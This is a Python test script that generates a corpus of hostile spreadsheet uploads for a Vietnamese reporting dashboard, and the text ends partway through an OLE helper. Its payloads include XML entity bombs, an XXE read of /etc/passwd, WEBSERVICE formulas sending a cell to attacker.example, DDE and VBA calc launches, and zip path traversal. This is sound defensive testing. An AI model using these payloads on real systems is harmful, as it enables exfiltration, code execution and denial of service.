"""Make the hostile-file corpus: files a district (or an attacker) might send instead of a return.

Run ``python tests/hostile/make_hostile.py`` to write the small files that are missing from
``tests/hostile/files/`` (they are committed; ``--force`` rewrites them all). The big ones
(``big=True``: a sheet declaring 4 GiB, a workbook of 1,048,576 rows, 16,384 columns, floods of
shared strings and merged ranges) are built by the tests into a temporary folder, cheaply: the
4 GiB sheet is a deflate stream made of one compressed block repeated (never 4 GiB in memory or
on disk), and the long sheets are streamed row by row into their zip member.

Every case carries what must become of it (``expect`` accepted or rejected, and the
returns.md codes among its errors), so the tests read their expectations from here.
"""

from __future__ import annotations

import io
import re
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterator
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from plantrack.workbook import col_letter  # noqa: E402

FILES = Path(__file__).resolve().parent / "files"
SHEET = "xl/worksheets/sheet1.xml"
GIB = 1 << 30


@dataclass(frozen=True)
class Case:
    name: str  # the fault, used as the test id
    filename: str
    expect: str  # "accepted" | "rejected"
    codes: tuple[str, ...]  # returns.md codes that must be among the errors (rejected)
    build: Callable[[Path], None]  # writes the file at the given path
    big: bool = False  # built at test time, not committed


# --- the valid return everything starts from ----------------------------------------------

PROVINCE, DISTRICT, PERIOD = "93", "933", "2023"  # Hậu Giang, Huyện Châu Thành, Năm 2023


def valid_values(plan) -> dict[str, tuple[object, object]]:
    out = {}
    for n, ind in enumerate(plan.indicators):
        out[ind.code] = (None, "Có") if ind.is_yesno else (1000 + 10 * n, 900 + n)
    return out


def valid_return(values: dict | None = None, district: str = DISTRICT) -> bytes:
    """A valid return made with the dashboard's own template."""
    from plantrack.plans import load_plans, parse_period
    from plantrack.template import template_bytes
    from plantrack.units import load_units

    units, plans = load_units(), load_plans()
    plan = plans.for_province(PROVINCE)
    return template_bytes(plan, units.provinces[PROVINCE], units.districts[district], parse_period(PERIOD),
                          values=values if values is not None else valid_values(plan))


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def rezip(data: bytes, replace: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """The archive with some members replaced or added (deflated), others kept in order."""
    parts = {k: v for k, v in members(data).items() if k not in drop}
    parts.update(replace or {})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(_deflated_info(name), body)
    return buf.getvalue()


def sheet_xml(data: bytes) -> str:
    return members(data)[SHEET].decode("utf-8")


def sub(text: str, old: str, new: str) -> str:
    """``text`` with ``old`` replaced, insisting that it was there (a silent no-op would test nothing)."""
    assert old in text, old
    return text.replace(old, new)


def set_cell(xml: str, ref: str, cell: str) -> str:
    """Replace the <c r="REF"> element (which must exist) with ``cell``."""
    pattern = re.compile(r'<c r="%s"(?:[^>]*/>|[^>]*>.*?</c>)' % re.escape(ref), re.S)
    new, n = pattern.subn(lambda m: cell, xml, count=1)
    assert n == 1, ref
    return new


def with_cells(cells: dict[str, str], extra: dict[str, bytes] | None = None, base: bytes | None = None) -> bytes:
    base = base or valid_return()
    xml = sheet_xml(base)
    for ref, cell in cells.items():
        xml = set_cell(xml, ref, cell)
    return rezip(base, {SHEET: xml.encode("utf-8"), **(extra or {})})


def inline(ref: str, text: str, style: int = 2) -> str:
    return f'<c r="{ref}" s="{style}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def number(ref: str, text: str, style: int = 7, extra: str = "") -> str:
    return f'<c r="{ref}" s="{style}"{extra}><v>{text}</v></c>'


# In the template: C6 province, C7 district, C8 period; row 11 is CT01 (E = Tổng số, F = Số đạt).
DEN, NUM = "E11", "F11"


def _write(data: bytes) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(data)
    return build


def _lazy(make: Callable[[], bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(make())
    return build


# --- archives that are broken ---------------------------------------------------------------

def truncated_archive() -> bytes:
    data = valid_return()
    return data[: len(data) * 6 // 10]


def truncated_after_magic() -> bytes:
    return valid_return()[:40]


def _member_data_span(data: bytes, name: str) -> tuple[int, int]:
    """(start, end) of a member's compressed bytes in the archive."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(name)
    off = info.header_offset
    nlen, xlen = struct.unpack("<HH", data[off + 26: off + 30])
    start = off + 30 + nlen + xlen
    return start, start + info.compress_size


def corrupt_deflate_stream() -> bytes:
    """Bytes flipped in the middle of the sheet's compressed data (sizes and CRC left as they were)."""
    data = bytearray(valid_return())
    start, end = _member_data_span(bytes(data), SHEET)
    for i in range(start + (end - start) // 3, start + (end - start) // 3 + 24):
        data[i] ^= 0xA5
    return bytes(data)


def corrupt_crc() -> bytes:
    """The sheet's stored CRC-32 (local header and central directory) no longer matches its bytes."""
    data = bytearray(valid_return())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(SHEET)
    data[info.header_offset + 14: info.header_offset + 18] = b"\xde\xad\xbe\xef"
    idx = data.find(b"PK\x01\x02")
    while idx != -1:
        nlen = struct.unpack("<H", data[idx + 28: idx + 30])[0]
        if bytes(data[idx + 46: idx + 46 + nlen]) == SHEET.encode():
            data[idx + 16: idx + 20] = b"\xde\xad\xbe\xef"
        idx = data.find(b"PK\x01\x02", idx + 4)
    return bytes(data)


def corrupt_central_directory() -> bytes:
    data = bytearray(valid_return())
    cd = bytes(data).find(b"PK\x01\x02")
    for i in range(cd, min(cd + 400, len(data) - 22)):
        data[i] = (data[i] * 7 + 13) & 0xFF
    return bytes(data)


def zip_not_a_workbook() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 64)
        zf.writestr("readme.txt", "báo cáo ở tệp khác")
    return buf.getvalue()


# --- XML that attacks the parser --------------------------------------------------------------

_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
    + "]>\n"
)


def billion_laughs_sheet() -> bytes:
    body = sub(sheet_xml(valid_return()), "<t>Huyện Châu Thành</t>", "<t>&lol9;</t>")
    return rezip(valid_return(), {SHEET: (_LAUGHS + body).encode("utf-8")})


def billion_laughs_shared_strings() -> bytes:
    base = valid_return()
    parts = members(base)
    sst = (_LAUGHS + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
           'uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    rels = sub(parts["xl/_rels/workbook.xml.rels"].decode(),
        "</Relationships>",
        '<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    xml = set_cell(sheet_xml(base), "C7", '<c r="C7" s="2" t="s"><v>0</v></c>')
    return rezip(base, {"xl/sharedStrings.xml": sst.encode(), "xl/_rels/workbook.xml.rels": rels.encode(),
                        SHEET: xml.encode()})


def billion_laughs_workbook_part() -> bytes:
    base = valid_return()
    wb = members(base)["xl/workbook.xml"].decode()
    wb = wb.split("?>", 1)[1] if wb.startswith("<?xml") else wb
    return rezip(base, {"xl/workbook.xml": (_LAUGHS + sub(wb, 'name="BaoCao"', 'name="&lol9;"')).encode()})


def quadratic_blowup() -> bytes:
    """One 50 kB entity referenced 50,000 times (no nesting: passes naive 'depth' guards)."""
    body = sub(sheet_xml(valid_return()), "<t>Huyện Châu Thành</t>", "<t>" + "&a;" * 50000 + "</t>")
    dtd = '<?xml version="1.0"?>\n<!DOCTYPE w [<!ENTITY a "' + "x" * 50000 + '">]>\n'
    return rezip(valid_return(), {SHEET: (dtd + body).encode("utf-8")})


def external_entity() -> bytes:
    body = sub(sheet_xml(valid_return()), "<t>Huyện Châu Thành</t>", "<t>&xxe;</t>")
    dtd = '<?xml version="1.0"?>\n<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    return rezip(valid_return(), {SHEET: (dtd + body).encode("utf-8")})


def illegal_xml_control_char() -> bytes:
    """A character reference XML 1.0 forbids (&#1;): a conforming parser must stop."""
    return with_cells({"C7": inline("C7", "Huyện&#1;Châu Thành")})


# --- not a spreadsheet at all ------------------------------------------------------------------

def encrypted_workbook() -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(valid_return())).encrypt("matkhau123", out)
    return out.getvalue()


def docx_renamed() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml",
                    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                    '<Default Extension="xml" ContentType="application/xml"/>'
                    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        zf.writestr("_rels/.rels",
                    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
        zf.writestr("word/document.xml",
                    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                    '<w:body><w:p><w:r><w:t>Tỉnh: Hậu Giang. Huyện: Châu Thành. Kỳ báo cáo: Năm 2023</w:t></w:r></w:p></w:body></w:document>')
    return buf.getvalue()


def pdf_renamed() -> bytes:
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"]
    stream = b"BT /F1 12 Tf 72 720 Td (Bao cao nam 2023) Tj ET"
    objs.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for n, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


def csv_renamed() -> bytes:
    lines = ["Tỉnh:,Hậu Giang", "Huyện:,Châu Thành", "Kỳ báo cáo:,Năm 2023",
             "STT,Mã chỉ tiêu,Chỉ tiêu,Tổng số,Số đạt", "1,CT01,Gia đình,1000,900"]
    return ("\ufeff" + "\r\n".join(lines) + "\r\n").encode("utf-8")


def html_renamed() -> bytes:
    """What 'Save as web page' or a web export sends with an .xls name."""
    return ('<html><body><table><tr><td>Tỉnh</td><td>Hậu Giang</td></tr>'
            '<tr><td>Mã chỉ tiêu</td><td>Tổng số</td><td>Số đạt</td></tr></table></body></html>').encode("utf-8")


_SSML_HEAD = ('<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
              'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="BaoCao"><Table>')


def spreadsheetml_billion_laughs() -> bytes:
    """An Excel 2003 XML Spreadsheet whose district is an entity expanding to 10^9 'lol's."""
    return (_LAUGHS + _SSML_HEAD + '<Row><Cell><Data ss:Type="String">Huyện:</Data></Cell>'
            '<Cell><Data ss:Type="String">&lol9;</Data></Cell></Row></Table></Worksheet></Workbook>').encode("utf-8")


def spreadsheetml_rows_flood(path: Path) -> None:
    """9.9 MB of empty <Row/> elements (1.6 million rows) in an Excel 2003 XML Spreadsheet."""
    head = ('<?xml version="1.0"?>' + _SSML_HEAD).encode()
    tail = b"</Table></Worksheet></Workbook>"
    path.write_bytes(head + b"<Row/>" * ((9_900_000 - len(head) - len(tail)) // 6) + tail)


def spreadsheetml_far_index() -> bytes:
    """A cell placed at ss:Index 2^31 and merged across a billion columns and rows."""
    return (_SSML_HEAD + '<Row ss:Index="2147483647"><Cell ss:Index="2147483647" ss:MergeAcross="1000000000" '
            'ss:MergeDown="1000000000"><Data ss:Type="String">x</Data></Cell></Row></Table></Worksheet>'
            '</Workbook>').encode("utf-8")


def ole_garbage_xls() -> bytes:
    """The OLE2 magic of an .xls followed by noise, with a 'Workbook' name to get past sniffing."""
    import random

    rng = random.Random(7)
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256) for _ in range(3000))
            + "Workbook".encode("utf-16-le") + bytes(rng.randrange(256) for _ in range(3000)))


# --- sheets that are odd but well-formed -------------------------------------------------------

def only_merged_cells() -> bytes:
    """A sheet with no values at all, only merged ranges (and a great many of them)."""
    merges = [f"{_col(c)}{r}:{_col(c + 1)}{r}" for r in range(1, 401) for c in range(1, 61, 2)]
    merges += ["A401:XFD1048576"]  # one range over the rest of the sheet
    xml = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
           '<sheetData/><mergeCells count="%d">%s</mergeCells></worksheet>'
           % (len(merges), "".join(f'<mergeCell ref="{m}"/>' for m in merges)))
    base = valid_return()
    return rezip(base, {SHEET: xml.encode()}, drop=("xl/worksheets/sheet2.xml",))


_col = col_letter


def long_string_district() -> bytes:
    name = ("Huyện Châu Thành " * 2000)[:32767]
    return with_cells({"C7": inline("C7", escape(name))})


def long_string_province() -> bytes:
    name = ("Tỉnh Hậu Giang " * 2100)[:32767]
    return with_cells({"C6": inline("C6", escape(name))})


def long_string_count() -> bytes:
    return with_cells({NUM: inline(NUM, "9" * 32767, style=7)})


def long_string_period() -> bytes:
    return with_cells({"C8": inline("C8", ("Kỳ báo cáo sáu tháng " * 1600)[:32767])})


def long_string_everywhere() -> bytes:
    """Every text cell of the form (labels, names, indicator names) 32,767 characters long."""
    base = valid_return()
    xml = sheet_xml(base)
    long = "Chỉ tiêu " + "ư" * 32758

    def grow(m: re.Match) -> str:
        return m.group(1) + escape(long) + m.group(3)
    xml = re.sub(r"(<c r=\"[A-H](?:1|2|3|4|9|1[1-8]|2[12])\"[^>]*t=\"inlineStr\"><is><t>)([^<]*)(</t>)", grow, xml)
    return rezip(base, {SHEET: xml.encode()})


def control_chars_in_names() -> bytes:
    # Excel writes control characters as _xHHHH_ escapes; tabs and newlines are legal as they are
    district = "Huyện_x0007__x001B_[31m Châu\tThành_x0000_\r\nA"
    return with_cells({"C7": inline("C7", escape(district))})


def rtl_text_in_names() -> bytes:
    district = "\u202eالمنطقة \u05de\u05d7\u05d5\u05d6 \u200fהמרכז"
    return with_cells({"C7": inline("C7", district), "C6": inline("C6", "\u202bتينه هاو جيانغ\u202c")})


def bidi_marks_around_names() -> bytes:
    """Invisible direction marks around real names (pasted from a web page): the names still match."""
    return with_cells({"C6": inline("C6", "\u200e\u202aTỉnh Hậu Giang\u202c"),
                       "C7": inline("C7", "\u2067Huyện Châu Thành\u2069\u200f")})


def rtl_sheet_name() -> bytes:
    base = valid_return()
    wb = sub(members(base)["xl/workbook.xml"].decode(), 'name="BaoCao"', 'name="\u202eoaCoaB تقرير"')
    return rezip(base, {"xl/workbook.xml": wb.encode()})


_EXT_LINK = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
             'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
             '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
             '<sheetDataSet><sheetData sheetId="0"><row r="2"><cell r="B2"><v>1000</v></cell></row></sheetData>'
             '</sheetDataSet></externalBook></externalLink>')
_EXT_LINK_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                  'externalLinkPath" Target="file:///\\\\attacker.example\\share\\other.xlsx" TargetMode="External"/>'
                  '</Relationships>')


def _with_external_link(cells: dict[str, str]) -> bytes:
    base = valid_return()
    parts = members(base)
    rels = sub(parts["xl/_rels/workbook.xml.rels"].decode(),
        "</Relationships>",
        '<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
    wb = sub(parts["xl/workbook.xml"].decode(),
        "</sheets>", '</sheets><externalReferences><externalReference r:id="rIdExt1"/></externalReferences>')
    if 'xmlns:r=' not in wb.split(">", 1)[0]:
        wb = wb.replace("<workbook ", '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ', 1)
    ct = sub(parts["[Content_Types].xml"].decode(),
        "</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" '
                    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    return with_cells(cells, base=base, extra={
        "xl/externalLinks/externalLink1.xml": _EXT_LINK.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": _EXT_LINK_RELS.encode(),
        "xl/_rels/workbook.xml.rels": rels.encode(), "xl/workbook.xml": wb.encode(), "[Content_Types].xml": ct.encode()})


def external_formulas_with_saved_values() -> bytes:
    """Counts computed by formulas into another workbook ([1]Sheet1!B2), with their saved values."""
    return _with_external_link({DEN: number(DEN, "1000", extra="").replace("<v>", "<f>[1]Sheet1!B2</f><v>"),
                                NUM: number(NUM, "900").replace("<v>", "<f>[1]Sheet1!B2-100</f><v>")})


def external_formulas_without_values() -> bytes:
    return _with_external_link({DEN: f'<c r="{DEN}" s="7"><f>[1]Sheet1!B2</f></c>',
                                NUM: f'<c r="{NUM}" s="7"><f>\'file:///C:/bao cao/[other.xlsx]Sheet1\'!B3</f></c>'})


def webservice_formula() -> bytes:
    """A formula that would fetch a URL if evaluated; its saved value is used, nothing is fetched."""
    return with_cells({NUM: f'<c r="{NUM}" s="7"><f>WEBSERVICE("http://attacker.example/?x="&amp;C7)</f><v>900</v></c>'})


# --- content that must stay data: live formulas and links, markup in text -------------------

ATTACKER = "http://attacker.example"
MARKUP = (f"[Hướng dẫn]({ATTACKER}/huong-dan) ![x]({ATTACKER}/p.png) <img src=x onerror=alert(1)> "
          f'<a href="{ATTACKER}">a</a> [js](javascript:alert(1)) :smile: :material/warning: :red[đỏ] $x^2$ '
          f"{ATTACKER}/bare www.attacker.example")


def live_formulas_and_links() -> bytes:
    """A refused return (E12 is text) whose cells would run, fetch or link if handed back live:
    HYPERLINK, WEBSERVICE and DDE formulas with saved values, text starting with = + - @, cell
    hyperlinks to a web page and to javascript:, a defined name holding a DDE call, a data
    validation and a conditional format holding WEBSERVICE, an external workbook link and a web
    query refreshed on open."""
    base = _with_external_link({
        NUM: number(NUM, "900").replace("<v>", f'<f>HYPERLINK("{ATTACKER}/x",900)</f><v>'),
        "E12": inline("E12", "một nghìn"),
        "H11": f'<c r="H11" s="2" t="str"><f>WEBSERVICE("{ATTACKER}/?x="&amp;C7)</f><v>ok</v></c>',
        "H12": '<c r="H12" s="2"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>',
        "H13": inline("H13", "=HYPERLINK(&quot;http://attacker.example/t&quot;,&quot;bấm&quot;)"),
        "H14": inline("H14", "+cmd|' /C calc'!A0"),
        "H15": inline("H15", "-2+3+cmd|' /C calc'!A0"),
        "H16": inline("H16", "@SUM(1+1)*cmd|' /C calc'!A0"),
    })
    parts = members(base)
    xml = parts[SHEET].decode()
    xml = sub(xml, "<pageMargins",
              f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1" dxfId="0">'
              f'<formula>LEN(WEBSERVICE("{ATTACKER}/cf"))&gt;0</formula></cfRule></conditionalFormatting>'
              '<hyperlinks><hyperlink ref="C6" r:id="rIdLink1"/><hyperlink ref="C7" r:id="rIdLink2"/></hyperlinks>'
              "<pageMargins")
    xml = sub(xml, "</dataValidations>",
              f'<dataValidation sqref="H17" type="list"><formula1>WEBSERVICE("{ATTACKER}/dv")</formula1>'
              "</dataValidation></dataValidations>")
    xml = sub(xml, '<dataValidations count="2">', '<dataValidations count="3">')
    if 'xmlns:r=' not in xml.split(">", 1)[0]:
        xml = xml.replace("<worksheet ", '<worksheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ', 1)
    rels = sub(parts["xl/worksheets/_rels/sheet1.xml.rels"].decode(), "</Relationships>",
               '<Relationship Id="rIdLink1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
               f'hyperlink" Target="{ATTACKER}/link" TargetMode="External"/>'
               '<Relationship Id="rIdLink2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
               'hyperlink" Target="javascript:alert(1)" TargetMode="External"/></Relationships>')
    wb = sub(parts["xl/workbook.xml"].decode(), "</definedNames>",
             "<definedName name=\"thuc_hien\">cmd|' /C calc'!A0</definedName>"
             f'<definedName name="tai_ve">WEBSERVICE("{ATTACKER}/n")</definedName></definedNames>')
    # a web query refreshed when the workbook opens
    wb_rels = sub(parts["xl/_rels/workbook.xml.rels"].decode(), "</Relationships>",
                  '<Relationship Id="rIdConn1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                  'relationships/connections" Target="connections.xml"/></Relationships>')
    ct = sub(parts["[Content_Types].xml"].decode(), "</Types>",
             '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.connections+xml"/></Types>')
    connections = ('<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                   f'<connection id="1" name="tai" type="4" refreshedVersion="6" refreshOnLoad="1">'
                   f'<webPr sourceData="1" parsePre="1" consecutive="1" xl2000="1" url="{ATTACKER}/q"/>'
                   '</connection></connections>')
    return rezip(base, {SHEET: xml.encode(), "xl/worksheets/_rels/sheet1.xml.rels": rels.encode(),
                        "xl/workbook.xml": wb.encode(), "xl/_rels/workbook.xml.rels": wb_rels.encode(),
                        "[Content_Types].xml": ct.encode(), "xl/connections.xml": connections.encode()})


def markup_in_text() -> bytes:
    """A refused return whose district, a count and the sheet's name carry Markdown, HTML, a
    javascript: link and emoji shortcodes: every message quoting them must show them as text."""
    base = with_cells({"C7": inline("C7", escape(MARKUP)), DEN: inline(DEN, escape("![x](" + ATTACKER + "/n.png)"))})
    parts = members(base)
    title = escape("<b>Bao</b> <img src=x> !(x) {javascript} @smile")  # "[", "]" and ":" cannot be in a sheet name
    wb = sub(parts["xl/workbook.xml"].decode(), 'name="BaoCao"', f'name="{title}"')
    wb = wb.replace("'BaoCao'!", f"'{title}'!")
    return rezip(base, {"xl/workbook.xml": wb.encode()})


def empty_cells_below_the_table(path: Path, cells: int = 360_000) -> None:
    """A refused return (E12 is text) with ``cells`` empty styled cells below row 500: the reader
    stops at row 500, but a spreadsheet library loading the whole sheet makes an object of each."""
    base = with_cells({"E12": inline("E12", "một nghìn")})
    xml = sheet_xml(base)
    head, tail = xml.split("</sheetData>", 1)
    per_row = 60
    rows = []
    for r in range(501, 501 + cells // per_row):
        rows.append(f'<row r="{r}">' + "".join(f'<c r="{col_letter(c)}{r}" s="1"/>' for c in range(1, per_row + 1))
                    + "</row>")
    xml = head + "".join(rows) + "</sheetData>" + tail
    path.write_bytes(rezip(base, {SHEET: xml.encode()}))


def macro_workbook() -> bytes:
    base = valid_return()
    parts = members(base)
    ct = sub(sub(parts["[Content_Types].xml"].decode(),
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                 "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
             "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = sub(parts["xl/_rels/workbook.xml.rels"].decode(),
               "</Relationships>", '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
                            'vbaProject" Target="vbaProject.bin"/></Relationships>')
    # an OLE container carrying a VBA module that would shell out if it were ever run
    vba = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
           + "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 64
           + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n  Shell "cmd /c calc.exe"\r\nEnd Sub\r\n')
    return rezip(base, {"[Content_Types].xml": ct.encode(), "xl/_rels/workbook.xml.rels": rels.encode(),
                        "xl/vbaProject.bin": vba})


def number_1e308() -> bytes:
    return with_cells({DEN: number(DEN, "1e308"), NUM: number(NUM, "1.7976931348623157E+308")})


def number_overflow_to_infinity() -> bytes:
    return with_cells({DEN: number(DEN, "1e309"), NUM: number(NUM, "-1e309")})


def number_nan() -> bytes:
    return with_cells({DEN: number(DEN, "NaN"), NUM: number(NUM, "nan")})


def number_text_nan_infinity() -> bytes:
    return with_cells({DEN: inline(DEN, "Infinity", style=7), NUM: inline(NUM, "NaN", style=7)})


def number_negative_zero() -> bytes:
    return with_cells({DEN: number(DEN, "-0"), NUM: number(NUM, "-0.0")})


def number_huge_integer_text() -> bytes:
    return with_cells({DEN: inline(DEN, "9" * 400, style=7), NUM: number(NUM, "1" + "0" * 300)})


def dates_where_counts_belong() -> bytes:
    """Counts typed as dates: a date-formatted serial and an ISO date cell (t="d")."""
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(valid_return()))
    ws = wb["BaoCao"]
    import datetime as dt
    ws["E11"] = dt.date(2023, 6, 30)
    ws["F11"] = dt.datetime(2023, 1, 1, 12, 0)
    buf = io.BytesIO()
    wb.save(buf)
    data = buf.getvalue()
    return with_cells({"E12": '<c r="E12" s="7" t="d"><v>2023-06-30T00:00:00</v></c>'}, base=data)


def path_traversal_member() -> bytes:
    """Members named ../../… and /etc/…: nothing is ever extracted, the return itself is fine."""
    return rezip(valid_return(), {"../../../../tmp/plantrack-pwned.txt": b"pwned",
                                  "/etc/cron.d/plantrack": b"* * * * * root true"})


def dangling_sheet_relationship() -> bytes:
    base = valid_return()
    rels = sub(members(base)["xl/_rels/workbook.xml.rels"].decode(), 'Target="/xl/worksheets/sheet1.xml"',
               'Target="../../../../etc/passwd"')
    return rezip(base, {"xl/_rels/workbook.xml.rels": rels.encode()})


def unsupported_compression() -> bytes:
    """The sheet stored with compression method 9 (Deflate64), which the reader's zip library lacks."""
    data = bytearray(valid_return())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(SHEET)
    data[info.header_offset + 8: info.header_offset + 10] = struct.pack("<H", 9)
    idx = data.find(b"PK\x01\x02")
    while idx != -1:
        nlen = struct.unpack("<H", data[idx + 28: idx + 30])[0]
        if bytes(data[idx + 46: idx + 46 + nlen]) == SHEET.encode():
            data[idx + 10: idx + 12] = struct.pack("<H", 9)
        idx = data.find(b"PK\x01\x02", idx + 4)
    return bytes(data)


# --- .xls (BIFF8 in an OLE2 compound file), written by hand -------------------------------

def _biff(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def _xls_workbook_stream(cells: list[tuple[int, int, float]], sheet: str = "BaoCao", filepass: bool = False,
                         extra: bytes = b"") -> bytes:
    """A minimal BIFF8 Workbook stream: globals (BOF, [FILEPASS], BOUNDSHEET, EOF), one sheet of NUMBER cells."""
    bof = _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06))
    name = sheet.encode("utf-16-le")
    eof = _biff(0x000A, b"")
    fp = _biff(0x002F, struct.pack("<HHH", 1, 1, 1) + b"\x00" * 48) if filepass else b""

    def boundsheet(offset: int) -> bytes:
        return _biff(0x0085, struct.pack("<IBBBB", offset, 0, 0, len(sheet), 1) + name)
    globals_ = bof + fp + boundsheet(0) + eof
    globals_ = bof + fp + boundsheet(len(globals_)) + eof
    body = _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 0x06))
    rows = [r for r, _, _ in cells] or [0]
    cols = [c for _, c, _ in cells] or [0]
    body += _biff(0x0200, struct.pack("<IIHHH", min(rows), max(rows) + 1, min(cols), max(cols) + 1, 0))
    body += b"".join(_biff(0x0203, struct.pack("<HHHd", r, c, 0, v)) for r, c, v in cells)
    return globals_ + body + extra + eof


def _compound_file(stream: bytes, name: str = "Workbook", loop: bool = False) -> bytes:
    """An OLE2 compound file (512-byte sectors) holding one stream: sector 0 FAT, 1 directory, 2… the stream.
    ``loop`` makes the stream's sector chain point back at its own start (a cycle)."""
    size = 512
    stream += b"\x00" * (-len(stream) % size)
    stream += b"\x00" * max(0, 4096 - len(stream))  # at least the mini-stream cutoff: a regular stream
    n = len(stream) // size
    assert n + 2 <= 128, "one FAT sector maps 128 sectors"
    fat = [0xFFFFFFFD, 0xFFFFFFFE] + [3 + i if i < n - 1 else 0xFFFFFFFE for i in range(n)]
    if loop:
        fat[-1] = 2
    fat += [0xFFFFFFFF] * (128 - len(fat))
